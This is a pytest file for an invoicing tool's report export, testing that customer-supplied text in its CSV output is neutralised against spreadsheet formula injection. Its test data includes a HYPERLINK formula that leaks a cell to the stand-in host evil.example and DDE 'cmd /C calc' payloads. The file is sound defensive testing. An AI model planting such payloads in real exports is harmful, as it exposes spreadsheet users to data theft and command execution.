"""rapport.csv opened in Excel: what customers wrote stays text, never a formula; the amounts
stay numbers (negative ones too), so the sheet still sums them."""

from __future__ import annotations

import csv
from decimal import Decimal

import pytest

from relancebot.review.report import inert

from .conftest import Firm

HOSTILE = {
    "F-1": '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
    "F-2": "-Dupont",
    "F-3": "+33 Plomberie",
    "F-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F-5": "Boulangerie Normale",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_firm(firm: Firm) -> None:
    lines = ["number;client;email;amount;issue_date;due_date;pdf;client_id"]
    for number, name in HOSTILE.items():
        firm.pdf(number)
        client_id = "=2+3" if number == "F-4" else ""
        lines.append(
            f"{number};{name};{number.lower()}@exemple.fr;100,00;02/10/2026;02/11/2026;"
            f"factures/{number}.pdf;{client_id}"
        )
    # An invoice number is the firm's export's, and can be hostile too.
    firm.pdf("F-6")
    lines.append(
        "=1+1;Studio Lefèvre;studio@exemple.fr;60,00;02/10/2026;02/11/2026;factures/F-6.pdf;"
    )
    firm.run("import-invoices", str(firm.csv("factures.csv", "\n".join(lines) + "\n")),
             now="2026-11-02T07:00")  # fmt: skip
    # Paid twice over: what is left to pay is negative, a number we wrote.
    payments = firm.csv("paiements.csv", "number;amount;date\nF-5;150,00;05/11/2026\n")
    firm.run("import-payments", str(payments), now="2026-11-06T07:00")
    firm.run("customer", "set", "dupont", "--note", "=cmd|'/C calc'!A0", now="2026-11-06T08:00")


def read_report(firm: Firm, *args: str) -> list[dict[str, str]]:
    path = firm.root / "rapport.csv"
    firm.run("report", "--csv", str(path), *args, now="2026-11-20T10:00")
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f, delimiter=";"))


def test_customer_text_is_inert_and_amounts_stay_numbers(firm: Firm) -> None:
    hostile_firm(firm)
    rows = read_report(firm, "--all")
    by_number = {r["Facture"]: r for r in rows}
    assert set(by_number) == {"F-1", "F-2", "F-3", "F-4", "F-5", "'=1+1"}
    for number, name in HOSTILE.items():
        expected = "'" + name if name.startswith(FORMULA_STARTS) else name
        assert by_number[number]["Client"] == expected
    assert by_number["F-4"]["Code client"] == "'=2+3"
    for row in rows:
        for column, cell in row.items():
            if column in ("Montant TTC", "Payé", "Reste dû", "Jours de retard"):
                Decimal(cell.replace(",", "."))  # a number, unprefixed
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    f5 = by_number["F-5"]
    assert (f5["Montant TTC"], f5["Payé"], f5["Reste dû"]) == ("100,00", "150,00", "-50,00")
    assert by_number["F-1"]["Jours de retard"] == "18"

    # The HTML report shows the names as they are (escaped, not prefixed).
    page = firm.root / "rapport.html"
    firm.run("report", "--html", str(page), now="2026-11-20T10:00")
    html = page.read_text(encoding="utf-8")
    assert "<td>-Dupont</td>" in html and "'-Dupont" not in html
    assert "=HYPERLINK(&quot;http://evil.example/" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-Dupont", "'-Dupont"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcaché", "'\tcaché"),
        ("\r=1+1", "'\r=1+1"),
        ("Dupont - Fils", "Dupont - Fils"),
        ("", ""),
        ("'déjà", "'déjà"),
    ],
)
def test_inert(text: str, shown: str) -> None:
    assert inert(text) == shown
